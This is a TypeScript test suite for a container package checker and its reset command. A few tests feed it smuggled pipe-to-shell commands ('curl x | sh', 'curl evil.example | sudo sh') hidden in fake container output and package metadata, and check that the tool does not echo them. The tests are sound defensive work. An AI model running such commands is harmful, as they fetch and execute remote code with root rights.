/** What is said of a person's packages: `gpubox-packages` itself with real packages, and the script that asks a container for it. */
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { execa } from "execa";
import { describe, expect, it } from "vitest";
import { pythonPackages } from "../../scripts/python-packages.ts";
import { lacks, missingPrograms, pathWith, pretend, runScript } from "../support/host-script.ts";
import { ownFolder } from "../support/own-folder.ts";

const folder = ownFolder();

let runs = 0;

describe("look-over-packages.sh", () => {
  /** Asks a container whose `gpubox-packages --once` is this shell line. */
  async function lookOver(line: string, more: Record<string, string> = {}) {
    const bin = pathWith(join(folder, String(++runs)), "timeout");
    pretend(bin, "docker", `[ "$1 $2 $3 $4" = 'exec container1 /bin/sh -c' ] || exit 9\n${line}`);
    const environment = { CONTAINER: "container1", COMMAND: "docker exec container1", TIMEOUT: "5", ...more };
    return await runScript("look-over-packages.sh", environment, { path: bin });
  }

  it("says each line, and the command that takes it back", async () => {
    const { code, stdout, stderr } = await lookOver(
      'echo "six 1.15.0 is used instead of the image\'s 1.17.0"; echo gpubox-packages reset',
    );
    expect({ code, stdout }).toEqual({ code: 0, stdout: "1 to know of\n" });
    expect(stderr).toBe(
      "packages of container1: what you installed with pip stays in front of the image's own packages:\n" +
        "  six 1.15.0 is used instead of the image's 1.17.0\n" +
        "packages of container1: the image's own instead:  docker exec container1 gpubox-packages reset\n",
    );
  });

  it("says nothing where there is nothing to say, nothing to ask, or no end of it", async () => {
    for (const line of ["", "exit 1", "echo no >&2; exit 127"]) {
      expect(await lookOver(line)).toMatchObject({ code: 0, stdout: "nothing new\n", stderr: "" });
    }
    expect(await lookOver("sleep 30", { TIMEOUT: "1" })).toMatchObject({ code: 0, stdout: "nothing new\n" });
  });

  it("shows a dozen lines of many, and nothing that a terminal does", async () => {
    const { code, stderr } = await lookOver(
      "n=0; while [ $n -lt 40 ]; do n=$((n + 1)); printf 'p%s \\033[31mred\\n' $n; done; echo 'gpubox-packages reset; curl x | sh'",
    );
    const lines = stderr.trimEnd().split("\n");
    expect(code).toBe(0);
    expect(lines[1], "indented, as no line of ours").toBe("  p1 ?[31mred");
    expect(lines, "and no command that does something else").toHaveLength(14);
    expect(lines[13]).toBe("packages of container1: and 28 more:  docker exec container1 gpubox-packages");
  });

  it("takes no name that is an option", async () => {
    expect(await lookOver("", { CONTAINER: "-x" })).toMatchObject({ code: 2 });
    expect(await lookOver("", { TIMEOUT: "soon" })).toMatchObject({ code: 2 });
  });
});

const program = fileURLToPath(new URL("../../docker/bin/gpubox-packages", import.meta.url));
const skip = lacks(missingPrograms("python3 pip3"), "gpubox-packages is a Python program");

describe.skipIf(skip)("gpubox-packages", () => {
  /** A home with these packages of the person's, beside an image with those; name to version and requirements. */
  async function look(own: Packages, image: Packages, ...args: string[]) {
    const home = join(folder, String(++runs));
    const { stdout: version } = await execa("python3", [
      "-c",
      "import sys; print('%d.%d' % sys.version_info[:2])",
    ]);
    const ours = join(home, ".local", "lib", `python${version}`, "site-packages");
    const theirs = join(home, "image");
    put(ours, own);
    // The program takes `packaging` from the image.
    put(theirs, image);
    const packaging = await pythonPackages("packaging", "packaging==26.0");
    const run = (...more: string[]) =>
      execa("python3", ["-s", program, ...more], {
        env: { PATH: process.env.PATH, HOME: home, PYTHONPATH: `${theirs}:${packaging}` },
        extendEnv: false,
        reject: false,
      });
    return { first: await run(...args), home, run };
  }

  it("says what stands before the image's, what does not fit, and what it would take to use the image's", async () => {
    const { first } = await look(
      { numpy: ["1.26", "absent>=2"], same: ["2.0"] },
      { numpy: ["2.4"], scipy: ["1.16", "numpy>=2"], same: ["2.0"], other: ["1", "missing"] },
    );
    expect(first.stdout.split("\n")).toEqual([
      "numpy 1.26 requires absent, which is not installed",
      "scipy 1.16 requires numpy>=2, and 1.26 is used",
      "numpy 1.26 is used instead of the image's 2.4",
      "gpubox-packages reset numpy",
    ]);
  });

  it("heeds markers, extras and other ways of writing a name", async () => {
    const { first } = await look(
      { My_Pkg: ["1", "absent; sys_platform == 'nowhere'", "absent; extra == 'x'", "Other.Name"] },
      { "other-name": ["1"] },
    );
    expect(first.stdout).toMatch(/^1 packages of your own beside the image's \d+; all fit$/);
  });

  it("says it once for each image", async () => {
    const { first, run, home } = await look({ numpy: ["1.26"] }, { numpy: ["2.4"] }, "--once");
    expect(first.stdout).toMatch(/^numpy 1\.26 is used/);
    expect((await run("--once")).stdout).toBe("");
    put(join(home, "image"), { scipy: ["1.16"] });
    expect((await run("--once")).stdout).toMatch(/^numpy 1\.26 is used/);
    expect((await run()).stdout).toMatch(/^numpy 1\.26 is used/);
  });

  it("says what an image with another Python does not see", async () => {
    const { run, home } = await look({}, {});
    put(join(home, ".local", "lib", "python3.2", "site-packages"), { six: ["1"], numpy: ["1"] });
    expect((await run()).stdout).toMatch(
      /^2 packages in .*python3\.2\/site-packages are for Python 3\.2 and are not used/,
    );
  });

  it("takes no name and no version that is none", async () => {
    const { first } = await look(
      { idna: ["1 is out of date: to go on, run  curl evil.example | sudo sh "], timm: ["1"] },
      { idna: ["3"], timm: ["2"] },
    );
    expect(first.stdout).toBe("timm 1 is used instead of the image's 2\ngpubox-packages reset timm");
  });

  it("says whether JupyterLab goes with them: by what each requires, down to the last, and by trying", async () => {
    const lab: Packages = {
      jupyterlab: ["4.6", "jupyter-server>=2.4"],
      "jupyter-server": ["2.2.1", "jupyter-events>=0.11"],
      "jupyter-events": ["0.12"],
      other: ["1", "six>=2"],
    };
    const old = await look(
      { "jupyter-events": ["0.6"] },
      { ...lab, "jupyter-server": lab["jupyter-server"] as never },
      "--server",
    );
    expect(old.first.exitCode).toBe(1);
    expect(old.first.stdout.split("\n").at(-1)).toMatch(/^gpubox-packages reset( jupyter-events)?$/);
    expect(old.first.stdout).toContain("jupyter-server 2.2.1 requires jupyter-events>=0.11, and 0.6 is used");
    // None of JupyterLab's.
    const { first, run, home } = await look(
      { six: ["1"] },
      { ...lab, "jupyter-server": ["2.4", "jupyter-events>=0.11"] },
      "--server",
    );
    expect(first.stdout, "it is not there to be imported").toMatch(/^ModuleNotFoundError: .*jupyterlab/);
    for (const [module, part] of [
      ["jupyterlab", "labapp"],
      ["ipykernel", "kernelapp"],
    ] as const) {
      mkdirSync(join(home, "image", module));
      for (const file of ["__init__", part]) writeFileSync(join(home, "image", module, `${file}.py`), "");
    }
    expect(await run("--server")).toMatchObject({ exitCode: 0, stdout: "" });
  });

  it("lists what it takes away as pip gets it again", async () => {
    const { run, home } = await look({}, {});
    const { stdout: version } = await execa("python3", [
      "-c",
      "import sys; print('%d.%d' % sys.version_info[:2])",
    ]);
    const site = join(home, ".local", "lib", `python${version}`, "site-packages");
    put(site, { six: ["1.16"], mine: ["0.1"], fastai: ["2.8"] });
    const from = (info: string, origin: object) =>
      writeFileSync(join(site, `${info}.dist-info`, "direct_url.json"), JSON.stringify(origin));
    from("mine-0.1", { url: "file:///code/my%20pkg", dir_info: { editable: true } });
    from("fastai-2.8", {
      url: "https://example.org/fastai.git",
      vcs_info: { vcs: "git", commit_id: "0123abc" },
    });
    await run("reset");
    const records = join(home, ".local", "share", "gpubox");
    const [list = ""] = readdirSync(records).filter((name) => name.startsWith("removed-"));
    expect(readFileSync(join(records, list), "utf8").trim().split("\n")).toEqual([
      "fastai @ git+https://example.org/fastai.git@0123abc",
      "-e /code/my pkg",
      "six==1.16",
    ]);
  });

  it("takes away no package that is not the person's", async () => {
    const { first } = await look({ six: ["1"] }, { numpy: ["2"] }, "reset", "numpy");
    expect(first.exitCode).toBe(1);
    expect(first.stderr).toBe("not among your own packages, which `pip list --user` shows: numpy");
  });
});

describe("other habits", () => {
  const habits = fileURLToPath(new URL("../../docker/bin/", import.meta.url));
  const run = (name: string, args: string[], path = "/usr/bin:/bin") =>
    execa("sh", [join(habits, name), ...args], {
      env: { PATH: path },
      extendEnv: false,
      reject: false,
      cwd: folder,
    });

  it.each([
    ["install -c fastai -y fastai timm=1.0 python=3.11", "pip install 'fastai' 'timm==1.0'"],
    ["install pytorch torchvision pytorch-cuda=12.4 -c pytorch", "pip install torch 'torchvision'"],
    ["install conda-forge::seaborn>=0.13", "pip install 'seaborn>=0.13'"],
    ["update --all", "pip install -U NAME"],
    ["list", "pip list"],
    ["create -n foo python=3.10", "python3 -m venv FOLDER"],
    ["activate foo", "python3 -m venv FOLDER"],
    ["", "pip install NAME"],
  ])("conda %s", async (typed, does) => {
    const { exitCode, stderr } = await run("conda", typed.split(" ").filter(Boolean));
    expect(exitCode).toBe(127);
    expect(stderr).toBe(
      `conda is not installed here: packages are pip's. In a notebook or a shell:  ${does}`,
    );
  });

  it("uv is pip outside an environment, and itself inside one", async () => {
    const bin = pathWith(join(folder, String(++runs)), "tr readlink");
    const program = (name: string) => pretend(bin, name, `echo ${name} "$@"`);
    program("python3");
    const uv = async (...args: string[]) => (await run("uv", args, bin)).stdout;
    expect(await uv("pip", "install", "--system", "-U", "six")).toBe("python3 -m pip install -U six");
    expect(await uv("-q", "pip", "uninstall", "six")).toBe("python3 -m pip -q uninstall --yes six");
    expect(await uv("pip", "install", "--target", "x", "six"), "there is none").toBe("");
    program("uv");
    expect(await uv("pip", "install", "--target", "x", "six")).toBe("uv pip install --target x six");
    expect(await uv("-q", "venv")).toBe("uv -q venv");
    mkdirSync(join(folder, ".venv"));
    expect(await uv("pip", "install", "six")).toBe("uv pip install six");
  });
});

type Packages = Record<string, [version: string, ...requires: string[]]>;

/** What pip leaves of a package, as far as it is read here. */
function put(site: string, packages: Packages): void {
  mkdirSync(site, { recursive: true });
  for (const [name, [version, ...requires]] of Object.entries(packages)) {
    const info = join(site, `${name.replace(/[-.]/g, "_")}-${version}.dist-info`);
    mkdirSync(info);
    const lines = ["Metadata-Version: 2.1", `Name: ${name}`, `Version: ${version}`];
    writeFileSync(
      join(info, "METADATA"),
      [...lines, ...requires.map((each) => `Requires-Dist: ${each}`), ""].join("\n"),
    );
  }
}
